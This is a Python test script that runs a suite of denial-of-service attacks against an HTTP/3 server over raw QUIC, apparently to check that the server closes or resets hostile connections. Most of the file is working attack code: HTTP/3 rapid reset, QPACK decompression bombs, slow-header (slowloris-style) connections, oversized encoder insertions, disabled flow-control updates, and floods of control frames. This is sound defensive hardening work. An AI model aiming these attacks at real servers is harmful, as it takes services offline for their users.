"""An attack on an HTTP/3 server, over raw QUIC: `attack.py PORT NAME`.

NAME is a function of this file or, behind a dot, of another one here; its argument opens a
connection. Prints the fate of the last connection in a line: `open`, `CLOSE` with the code, or what
the function returns. A server that does not do what a case asks for is an error."""

import importlib
import sys
import time

import wire
from peer import Peer

POST = wire.post("/")
# A field section of one insertion, its Base there (RFC 9204 section 4.5.1).
NEEDS_ONE = b"\x02\x00"
FIRST = b"\x80"


def _flood(peer, most, step):
    """Takes a step until the server closes, or `most` times."""
    for taken in range(most):
        if peer.closed:
            break
        step(taken)
        if taken % 10 == 0:
            peer.wait(0.001)
    peer.wait(1)


def rapid_reset(server):
    peer = server()

    def one(_):
        # Credit for streams comes with packets.
        peer.resets(peer.asks(wire.get(), fin=False))
        peer.wait(0.0005)

    _flood(peer, 5_000, one)


def malformed(server):
    peer = server()
    _flood(peer, 5_000, lambda _: peer.asks(wire.get("/", ("UPPER", "1"))))


def endless_section(server):
    peer = server()
    stream = peer.asks(wire.varint(wire.HEADERS) + wire.varint(1 << 30), fin=False)
    record = peer.record(stream)

    def one(_):
        if record.stopped is None and record.reset is None:
            peer.says(stream, bytes(1000))

    _flood(peer, 2_000, one)
    return _of_stream(peer, stream)


def _of_stream(peer, stream):
    """The fate of a stream, where its connection is open."""
    record = peer.record(stream)
    code = record.stopped if record.reset is None else record.reset
    return None if peer.closed or code is None else f"reset {code:#x}"


def _bomb(peer, most):
    """One entry of almost the whole table, and requests of 4,000 references to it."""
    value = wire.text("x" * 3_900)
    peer.opens(wire.ENCODER, wire.integer(4096, 5, 0x20) + wire.text("a", 5, 0x40) + value)
    fields = b"".join(wire.literal(name, value) for name, value in wire.pseudo())
    section = wire.frame(wire.HEADERS, NEEDS_ONE + fields + FIRST * 4_000)
    _flood(peer, most, lambda _: peer.asks(section))


def qpack_bomb(server):
    _bomb(server(), 2_000)


def bomb_behind_shut_window(server):
    _bomb(server(max_stream_data=0), 2_000)


def unread(server):
    """20 connections that ask for 100 answers each and let nothing of them in."""
    peers = []
    for _ in range(20):
        peer = server()
        peer.quic._write_connection_limits = lambda **_: None
        peer.quic._write_stream_limits = lambda **_: None
        for _ in range(100):
            peer.asks(wire.get("/bytes/1000000000"))
        peers.append(peer)
    end = time.monotonic() + 15
    while time.monotonic() < end:
        for peer in peers:
            peer.wait(0.01)


def goaways(server):
    peer = server()
    # A server that drains goes on for as long as a request is open.
    peer.asks(POST, fin=False)
    flood = wire.number(wire.GOAWAY, 0) * 100
    _flood(peer, 1_000, lambda _: peer.says(peer.control, flood))


def empty_data(server):
    peer = server()
    stream = peer.asks(POST, fin=False)
    _flood(peer, 2_000, lambda _: peer.says(stream, wire.data(b"")))


def slow_heads(server):
    """100 connections whose heads come a byte a second."""
    head = wire.varint(wire.HEADERS) + wire.varint(1000)
    peers = [server() for _ in range(100)]
    streams = [peer.asks(head, fin=False) for peer in peers]
    end = time.monotonic() + 17
    while time.monotonic() < end:
        begun = time.monotonic()
        for peer, stream in zip(peers, streams):
            if not peer.closed and peer.record(stream).reset is None:
                peer.says(stream, b"\0")
            peer.wait(0.002)
        time.sleep(max(0, 1 - (time.monotonic() - begun)))
    fates = {_of_stream(peer, stream) for peer, stream in zip(peers, streams)}
    return ", ".join(map(str, sorted(fates, key=str)))


def endless_encoder_stream(server):
    peer = server()
    # An insertion of 1 GiB.
    begun = wire.text("a", 5, 0x40) + wire.integer(1 << 30, 7, 0)
    stream = peer.opens(wire.ENCODER, wire.integer(4096, 5, 0x20) + begun)
    _flood(peer, 5_000, lambda _: peer.says(stream, bytes(1000)))


def unknown_frames(server):
    peer = server()
    stream = peer.asks(POST, fin=False)
    flood = wire.frame(wire.GREASE) * 100
    _flood(peer, 1_000, lambda _: peer.says(stream, flood))


def unknown_streams(server):
    peer = server()
    peer.asks(POST, fin=False)
    _flood(peer, 5_000, lambda _: peer.opens(wire.GREASE, fin=True))


def priority_updates(server):
    peer = server()
    peer.asks(POST, fin=False)
    flood = wire.frame(wire.PRIORITY_UPDATE, wire.varint(0) + b"u=1") * 100
    _flood(peer, 1_000, lambda _: peer.says(peer.control, flood))


def cancelled_pushes(server):
    peer = server()
    _flood(peer, 1_000, lambda at: peer.says(peer.control, wire.number(wire.CANCEL_PUSH, at)))


def main():
    port, name = int(sys.argv[1]), sys.argv[2]
    file, _, function = name.rpartition(".")
    attack = vars(importlib.import_module(file) if file else sys.modules[__name__])[function]
    peers = []

    def server(*args, **settings):
        peers.append(Peer(port, *args, **settings))
        return peers[-1]

    fate = attack(server)
    closed = peers[-1].closed
    print(fate or (f"CLOSE {closed.code:#x}" if closed else "open"), flush=True)


main()
